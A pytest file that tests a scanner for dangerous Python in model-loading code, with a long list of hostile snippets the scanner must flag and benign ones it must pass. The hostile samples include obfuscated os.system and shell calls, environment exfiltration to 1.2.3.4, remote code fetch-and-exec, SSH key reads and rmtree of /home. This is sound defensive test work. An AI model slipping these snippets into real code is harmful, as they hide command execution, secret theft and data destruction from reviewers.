"""Code that a loader imports is judged by what it reaches, however it names that."""

# ruff: noqa: E501

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecase.readers.artifacts.code.python_code import check_python
from safecase.readers.artifacts.report import Problem, Problems, worst

HARMFUL = [
    "import os\nos.system('id')",
    "import os as numpy\nnumpy.system('id')",
    "from os import system as s\ns('id')",
    "from os import *\nsystem('id')",
    "__import__('os').system('id')",
    "getattr(__import__('o'+'s'),'sys'+'tem')('id')",
    "import importlib\nm=importlib.import_module('subprocess')\nm.check_output(['id'])",
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
    "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,49,41]))",
    "exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115])))",
    "import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(1)','rot13'))",
    "import sys\nsys.modules['os'].system('x')",
    "import torch\nclass M(torch.nn.Module):\n  def forward(self,x):\n    import subprocess\n    subprocess.run('id',shell=True)\n    return x",
    "import os\nclass M:\n  def __init__(self, f=os.system):\n    f('id')",
    "import os\n@os.system\ndef f(): pass",
    "import os\ndef run(m,n,a): return getattr(m,n)(a)\nrun(os,'system','id')",
    "import ctypes\nctypes.CDLL(None).system(b'id')",
    "import marshal\nexec(marshal.loads(b'abc'))",
    "().__class__.__base__.__subclasses__()[1]",
    "import urllib.request\nexec(urllib.request.urlopen('http://x/y').read())",
    "import requests, os\nclass A:\n def forward(self,x):\n  requests.post('http://1.2.3.4/', json=dict(os.environ))",
    "open('/tmp/x','w').write('a')",
    "from pathlib import Path\nPath('/tmp/x').write_text('a')",
    "from pathlib import Path\nclass A:\n def __init__(self):\n  (Path.home()/'.bashrc').open('a').write('x')",
    "from pathlib import Path\nPath('/tmp/x').touch()",
    "import socket\ns=socket.socket()\ns.connect(('1.2.3.4',1))",
    "import random\nrandom._os.system('id')",
    "import functools, os\nfunctools.partial(os.system,'id')()",
    "import os\nlist(map(os.system,['id']))",
    "import threading, os\nthreading.Thread(target=os.system,args=('id',)).start()",
    "import atexit, os\natexit.register(os.system,'id')",
    "globals()['__builtins__']['exec']('1')",
    "vars(__import__('os'))['system']('id')",
    "import os\nos.__dict__['system']('id')",
    "import operator, os\noperator.methodcaller('system','id')(os)",
    "import operator, os\noperator.attrgetter('system')(os)('id')",
    "(lambda: __import__('os').popen('id'))()",
    "[__import__('os').popen('id') for _ in [1]]",
    "class X:\n  import os\n  os.popen('x')",
    "def a(x=__import__('os').system('i')): pass",
    "class M(type):\n  def __new__(c,*a):\n    __import__('pty').spawn('sh')",
    "import os\nclass T:\n  def __getattr__(self,n):\n    return os.popen(n)",
    "import os\nclass T:\n  def __init__(self):\n    self.o=os\n  def forward(self,x):\n    self.o.system('id')",
    "from os import path\npath.os.system('id')",
    "import torch\nloader=torch.serialization.os\nloader.system('id')",
    "import logging\nlogging.os.system('id')",
    "import numpy as np\nnp.testing.runstring('import os',{})",
    "import builtins\nbuiltins.exec('import os; os.system(1)')",
    'e=eval\ne(\'__import__("os").system("x")\')',
    "import pickle\npickle.loads(b'cos\\nsystem\\n.')",
    "import subprocess as sp\nif True:\n  try:\n    sp.call('id')\n  except Exception: pass",
    "import os\nif os.environ.get('A')!='b':\n  os.execvp('sh',['sh'])",
    "import types\ntypes.FunctionType(compile('1','a','exec'),{})()",
    "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
    "x='so'[::-1]\nm=__import__(x)\nm.system('id')",
    "import zlib,base64\ncode=zlib.decompress(base64.b64decode(DATA))\nexec(code)",
    "import webbrowser\nwebbrowser.open('http://x')",
    "key=23\nexec(bytes(b ^ key for b in b'~zgxec7xd').decode())",
    "s=''\nfor c in [111,115]:\n  s+=chr(c)\n__import__(s).system('x')",
    "from importlib import import_module as i\ngetattr(i('os'), 'popen')('id')",
    "import os\nfs={'a':os.system}\nfs['a']('id')",
    "import shutil\nclass A:\n  def forward(self,x):\n    shutil.rmtree('/home')",
    "class A:\n  def forward(self,x):\n    d=open('/root/.ssh/id_rsa').read()\n    return d",
    "import sys\nclass F:\n  def find_spec(self,*a): pass\nsys.meta_path.insert(0,F())",
    "import transformers\ntransformers.utils.import_utils.subprocess.run('id')",
    "import http.client\nc=http.client.HTTPConnection('x')\nc.request('GET','/')",
    "import multiprocessing.util as u\nu.spawnv_passfds(b'/bin/sh',[b'sh'],())",
    "import torch\ntorch.hub.load('a/b','c',trust_remote_code=True)",
    "import cffi\nf=cffi.FFI()\nf.dlopen(None)",
    "from transformers import AutoModel\nclass A:\n  def __init__(self):\n    self.m=AutoModel.from_pretrained('evil/x',trust_remote_code=True)",
]

HONEST = [
    "import os\nimport torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        return torch.relu(x)\n",
    "import os, json\nclass T:\n    def __init__(self, vocab_file):\n        with open(vocab_file) as f:\n            self.vocab = json.load(f)\n    def save_vocabulary(self, folder):\n        with open(os.path.join(folder, 'vocab.json'), 'w') as f:\n            json.dump(self.vocab, f)\n",
    "import importlib.util, os, logging, warnings\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nFLASH = importlib.util.find_spec('flash_attn') is not None\nlogger = logging.getLogger(__name__)\n",
    "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['ls'])\n",
    "import re\nP = re.compile(r'x')\nclass M:\n    def eval(self): return self\nM().eval()\n",
    "from setuptools import setup\nsetup(name='x', long_description=open('README.md').read())\n",
    "import torch\ndef f(m, dtype):\n    return getattr(torch, dtype), torch.compile(m)\n",
]


def judged(code: str | bytes, name: str = "modeling_x.py") -> tuple[Problem, ...]:
    problems = Problems()
    check_python(code if isinstance(code, bytes) else code.encode(), name, problems, "")
    return problems.all()


@pytest.mark.parametrize("code", HARMFUL, ids=lambda _: "")
def test_what_reaches_harm_is_told_however_it_is_written(code: str) -> None:
    assert worst(judged(code)) in ("malicious", "suspicious")


@pytest.mark.parametrize("code", HONEST, ids=lambda _: "")
def test_the_code_of_ordinary_models_is_clean(code: str) -> None:
    assert judged(code) == ()


def test_a_finding_names_the_line_of_the_code() -> None:
    assert "line 2" in judged("import os\nos.system('id')")[0].message


def test_code_that_loops_without_end_in_its_calls_is_judged_within_bounds() -> None:
    assert worst(judged("def f(a):\n    return f(a + 'x')\nf('y')\n" + "x = 'a' * 10**9\n")) == "clean"


@given(st.binary(max_size=200))
def test_no_bytes_make_it_fail(content: bytes) -> None:
    judged(content)
